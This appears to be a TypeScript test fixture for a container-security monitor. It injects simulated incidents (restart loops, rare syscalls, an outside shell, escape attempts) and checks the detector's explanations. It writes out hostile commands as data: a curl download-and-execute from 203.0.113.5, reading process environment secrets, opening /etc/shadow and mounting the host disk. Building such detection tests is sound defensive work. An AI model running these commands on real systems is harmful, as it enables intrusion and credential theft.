import { shuffled } from '../../scenarios/work.ts';
import { quantity, quantityIn, secondsIn, span } from './explanation.ts';
import type { Incident, Timed } from './incident.ts';
import { startOf } from './resource-incidents.ts';
import { familiarCallsSeries } from '../../../monitor/detect/syscalls/call-alarm.ts';
import { rareCallsSeries } from '../../../monitor/detect/syscalls/call-episode.ts';
import { isRareKind } from '../../../monitor/detect/syscalls/rare-call-kinds.ts';

/** The main process ends soon after each start and is started again. */
export const restartLoop: Incident = {
  name: 'restart loop',
  meaning: { strong: 'every 0.5 s', medium: 'every 5 s', weak: 'every 30 s' },
  inject(strength) {
    const periodMs = { strong: 500, medium: 5_000, weak: 30_000 }[strength];
    return {
      explained: (kind) =>
        kind === 'restart-loop'
          ? [
              {
                series: 'restarts',
                says: new RegExp(
                  `^Started (?<times>${quantity}) times within (?<lasted>${span}): it ends`,
                ),
                injected: {
                  amount: periodMs / 1000,
                  least: 0.7,
                  most: 1.4,
                  told: ({ times, lasted }) => secondsIn(lasted) / (quantityIn(times) - 1),
                },
              },
            ]
          : [],
      // What worked there is gone; what starts does little.
      resource: (reading) => ({
        ...reading,
        cpuCores: 0.05,
        memoryBytes: 6e6,
        anonymousBytes: 4e6,
        pids: 2,
        network: reading.network && {
          receivedBytes: 0,
          sentBytes: 0,
          receivedPackets: 0,
          sentPackets: 0,
        },
        block: reading.block && { readBytes: 0, writtenBytes: 0 },
      }),
      syscalls: () => undefined,
      also(fromMs, toMs) {
        const events: Timed[] = [];
        for (let turn = Math.floor(fromMs / periodMs) + 1; turn * periodMs <= toMs; turn += 1) {
          const sinceMs = turn * periodMs;
          const die = { name: 'die', exitCode: 1 } as const;
          events.push(
            { sinceMs, observation: { kind: 'lifecycle', event: die } },
            { sinceMs, observation: { kind: 'lifecycle', event: { name: 'start' } } },
          );
        }
        return events;
      },
    };
  },
};

/** The text as a pattern that means just it. */
function escaped(text: string): string {
  return text.replaceAll(/[\\^$.*+?()[\]{}|/]/g, '\\$&');
}

/** Kinds of call that few programs make; `rare-call-kinds.ts` holds a third of them to be rare. */
const exotic = [
  'vmsplice',
  'io_uring_setup',
  'io_uring_enter',
  'memfd_create',
  'execveat',
  'process_madvise',
  'remap_file_pages',
  'quotactl',
  'fanotify_init',
  'name_to_handle_at',
  'inotify_init1',
  'tee',
];

/** An exploit makes calls that the workload never made. */
export const unusualCalls: Incident = {
  name: 'unusual calls',
  meaning: {
    strong: '6 new kinds, 5,000/s',
    medium: '2 new kinds, 50/s',
    weak: '1 new kind, twice',
  },
  inject(strength, { calls }, random) {
    const fresh = shuffled(
      exotic.filter((name) => !calls.has(name)),
      random,
    );
    const chosen = fresh.slice(0, { strong: 6, medium: 2, weak: 1 }[strength]);
    let made = 0;
    const names = chosen.join('|');
    // What sets them apart depends on which they are.
    const series = chosen.some(isRareKind) ? rareCallsSeries : familiarCallsSeries;
    return {
      explained: (kind) =>
        kind === 'unusual-calls'
          ? [
              {
                series,
                says: new RegExp(
                  `^Made (?<amount>${quantity}) .(?:${names}). calls? in (?<lasted>${span}); never before`,
                ),
                injected: {
                  amount: { strong: 5_000, medium: 50, weak: 2 }[strength],
                  least: 0.7,
                  most: 1.4,
                  told: ({ amount, lasted }) => quantityIn(amount) / Math.max(1, secondsIn(lasted)),
                },
              },
            ]
          : [],
      syscalls(window) {
        const perSecond = { strong: 5_000, medium: 50, weak: made === 0 ? 2 : 0 }[strength];
        made += 1;
        if (perSecond === 0) return window;
        const counts = { ...window.counts };
        for (const name of chosen) {
          counts[name] = Math.max(1, Math.round((perSecond * window.intervalMs) / 1000));
        }
        return { ...window, counts };
      },
    };
  },
};

/** Somebody starts a shell in the container from outside, and things with it. */
export const foreignShell: Incident = {
  name: 'shell from outside',
  meaning: { strong: 'fetches and runs a program', medium: 'reads around', weak: 'one `id`' },
  inject(strength) {
    const command = {
      strong: 'sh -c curl -s http://203.0.113.5/x -o /tmp/x && chmod +x /tmp/x && /tmp/x',
      medium: 'sh -c cat /proc/self/environ; ls -R /root',
      weak: 'id',
    }[strength];
    return {
      explained: (kind) =>
        kind === 'unexpected-exec'
          ? [
              {
                series: 'exec',
                says: new RegExp(`started in it from outside.*: \`${escaped(command)}\`\\.`),
              },
            ]
          : [],
      also(fromMs, toMs) {
        const events: Timed[] = [];
        const at = (sinceMs: number, observation: Timed['observation']): void => {
          if (sinceMs > fromMs && sinceMs <= toMs) events.push({ sinceMs, observation });
        };
        at(150, { kind: 'lifecycle', event: { name: 'exec', command } });
        at(170, {
          ...startOf('/bin/sh', ['-c', command]),
          fromOutside: true,
          programIsNew: false,
        });
        if (strength === 'strong') at(900, startOf('/tmp/x', []));
        return events;
      },
    };
  },
};

/** A process of the container tries to get out of it. */
export const escapeAttempt: Incident = {
  name: 'escape attempt',
  meaning: {
    strong: 'mounts the host’s disk',
    medium: 'ptrace, refused, every 2 s',
    weak: 'opens the shadow file once',
  },
  inject(strength) {
    const call = {
      strong: { call: 'mount', target: '/dev/sda1', error: undefined },
      medium: { call: 'ptrace', target: '', error: 'EPERM' },
      weak: { call: 'openat', target: '/etc/shadow', error: undefined },
    }[strength];
    const observation = {
      kind: 'rare-call',
      ...call,
      compat: false,
      writes: false,
      own: false,
      pid: 4_242,
      parentPid: 4_200,
      uid: 0,
      parentUid: 0,
      program: '/tmp/x',
      programIsNew: true,
    } as const;
    const series = { strong: 'mount', medium: 'ptrace T1055.008', weak: 'openat T1003.008' }[
      strength
    ];
    const of = call.target === '' ? '' : escaped(` (${call.target})`);
    const end = call.error === undefined ? 'not refused' : `refused with ${call.error}`;
    return {
      explained: (kind, sinceMs) =>
        kind === 'escape-attempt'
          ? [
              {
                series,
                says: new RegExp(
                  `^/tmp/x \\(process 4242\\) called .${call.call}.${of} (?<amount>once|${quantity})(?: times)?.* and was ${end}`,
                ),
                injected: {
                  amount: strength === 'medium' ? Math.floor((sinceMs - 100) / 2_000) + 1 : 1,
                  least: 1,
                  most: 1,
                },
              },
            ]
          : [],
      also(fromMs, toMs) {
        const events: Timed[] = [];
        const every = strength === 'medium' ? 2_000 : Infinity;
        for (let sinceMs = 100; sinceMs <= toMs; sinceMs += every) {
          if (sinceMs > fromMs) events.push({ sinceMs, observation });
        }
        return events;
      },
    };
  },
};
